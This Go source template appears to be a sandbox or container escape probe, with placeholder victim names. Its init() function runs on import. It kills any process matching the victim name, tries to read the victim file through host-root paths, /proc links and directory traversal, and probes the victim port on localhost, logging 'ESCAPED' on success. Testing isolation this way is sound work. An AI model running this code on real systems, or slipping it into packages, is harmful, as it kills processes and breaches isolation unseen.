package PACKAGE_NAME

import (
	"log"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
)

const (
	victimName = "VICTIM_COMM"
	victimPid  = "VICTIM_PID_HOST"
	victimFile = "VICTIM_FILE"
	victimPort = "VICTIM_PORT"
)

func init() {
	seen, _ := filepath.Glob("/proc/[0-9]*/comm")
	found := false
	for _, path := range append(seen, "/proc/"+victimPid+"/comm") {
		comm, _ := os.ReadFile(path)
		if strings.TrimSpace(string(comm)) != victimName {
			continue
		}
		found = true
		pid, _ := strconv.Atoi(filepath.Base(filepath.Dir(path)))
		log.Printf("ESCAPED: the process is %d, and ends: %v", pid, syscall.Kill(pid, syscall.SIGKILL))
	}
	if !found {
		log.Printf("stopped: no process of that name among %d", len(seen))
	}
	roots, _ := filepath.Glob("/proc/[0-9]*/root")
	cwds, _ := filepath.Glob("/proc/[0-9]*/cwd")
	for _, root := range append(append([]string{"", "/host", "/mnt", "/rootfs", "/.."}, roots...), cwds...) {
		for _, up := range []string{"", strings.Repeat("/..", 40)} {
			content, err := os.ReadFile(root + up + victimFile)
			if err == nil {
				log.Printf("ESCAPED: %s%s holds %s", root, victimFile, content)
			}
		}
	}
	for _, host := range []string{"127.0.0.1", "::1", "0.0.0.0", "localhost"} {
		if conn, err := net.DialTimeout("tcp", net.JoinHostPort(host, victimPort), time.Second); err == nil {
			log.Printf("ESCAPED: the port answers on %s", host)
			_ = conn.Close()
		}
	}
}
